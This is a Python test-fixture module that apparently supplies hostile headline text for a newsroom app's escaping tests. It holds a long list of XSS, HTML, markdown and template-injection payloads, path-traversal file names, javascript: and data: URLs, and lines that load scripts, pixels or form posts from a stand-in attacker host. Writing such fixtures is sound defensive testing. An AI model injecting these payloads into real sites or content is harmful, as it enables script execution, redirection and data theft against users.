"""Words that want to be run, framed, closed or asked for: what strangers put into headlines."""

from __future__ import annotations

from dataclasses import replace

from copydesk.news import Image, Provider, Reason, ReasonKind, Story, Verdict
from world.newsroom import NOW

FAR = "https://thief.example"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//thief.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "</template><img src=x onerror=alert(1)>",
    "</noscript><img src=x onerror=alert(1)>",
    "</article></main></body></html><h1>gone",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "x onpointerenter=alert(1) tabindex=1",
    "<img src=x onerror=alert(1)>",
    "<img src=https://thief.example/pixel.gif>",
    "<img srcset=https://thief.example/pixel.gif>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=https://thief.example/x></object>",
    "<embed src=https://thief.example/x>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=https://thief.example><button>Publish</button></form>",
    "<button form=bulk formaction=https://thief.example>Publish</button>",
    "<base href=https://thief.example/>",
    "<meta http-equiv=refresh content='0;url=https://thief.example'>",
    "<link rel=stylesheet href=https://thief.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://thief.example/x.css';</style>",
    "<p style=position:fixed;inset:0;background:red>over</p>",
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](https://ok.example 'x\" onmouseover=\"alert(1)')",
    "![pixel](https://thief.example/pixel.gif)",
    '<https://ok.example/"onmouseover=alert(1)>',
    "[x]: javascript:alert(1)\n[x]",
    "{{ 7 * 7 }}{% include 'sign_in.html' %}",
    "${alert(1)}#{alert(1)}",
    "{count} {what} {name} {title}",
    "$& $` $' $1",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;quot;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028alert(1)\u2029",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "Z\u0351\u036b\u0343a\u0301\u0302\u0303l\u0334\u0335\u0336g\u0489" * 12,
    "A" * 400,
    "\ufdfd" * 40,
    "__proto__",
    "constructor",
    '{"__proto__": {"ran": 1}}',
    "</ul></div></form><form id=bulk action=https://thief.example>",
    "<div id=rows></div><div id=words>{}</div><div id=toasts></div>",
    "<img name=body><img id=root><form name=getElementById>",
)
NAMES = (
    '2026-11-19-"onmouseover="alert(1)',
    "2026-11-19-'><img src=x onerror=alert(1)>",
    "2026-11-19-<b>bold<b>",
    "2026-11-19-%2f..%2f..%2fbeat.toml",
    "2026-11-19-\u2215etc\u2215passwd",
    "2026-11-19-a#b?c=d&e=f",
    "2026-11-19-a;b,c d",
    "2026-11-19-\u202egnp",
    "2026-11-19-back\\slash",
    "2026-11-19-{{ 7 * 7 }}",
    "2026-11-19-constructor",
    "2026-11-19-$&-$1",
)
ADDRESSES = (
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    'https://ok.example/"onmouseover="alert(1)',
    "https://user:pass@thief.example/<script>",
    "//thief.example/x",
    "vbscript:alert(1)",
)


def make_hostile(number: int, story: Story) -> Story:
    """Return a story all of whose words and addresses are such, others for each number."""
    words = [PAYLOADS[(number * 6 + place) % len(PAYLOADS)] for place in range(9)]
    address = ADDRESSES[number % len(ADDRESSES)]
    return replace(
        story,
        path=f"_news/{NAMES[number % len(NAMES)]}.md",
        title=words[0],
        excerpt=words[1],
        note=words[2],
        provider=Provider(name=words[3], domain=words[8][:60]),
        topics=("Coast", words[4]),
        language='de" onload="alert(1)',
        web_url=address,
        images=(Image(url=address, title=words[5]),),
        reasons=(
            Reason.of(ReasonKind.TOPIC, topic=words[4], evidence=words[5]),
            *story.reasons,
        ),
        verdict=Verdict(by=words[6], at=NOW, said="hold", why=words[7]),
    )
